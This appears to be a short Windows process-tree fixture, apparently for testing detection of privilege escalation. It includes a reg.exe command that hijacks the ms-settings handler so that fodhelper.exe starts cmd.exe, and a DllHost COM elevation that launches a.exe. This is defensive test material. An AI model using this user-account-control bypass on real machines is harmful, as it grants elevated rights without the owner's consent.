os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\fodhelper.exe | C:\Windows\System32\fodhelper.exe
+ 103 102 ana - C:\Windows\System32\cmd.exe | cmd.exe
104 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 105 104 ana - C:\Windows\System32\reg.exe | reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /ve /d cmd.exe /f
106 101 ana - C:\Windows\System32\conhost.exe | C:\Windows\System32\conhost.exe
107 106 ana - C:\Windows\System32\dllhost.exe | C:\Windows\system32\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}
+ 108 107 ana - C:\data\a.exe | C:\data\a.exe
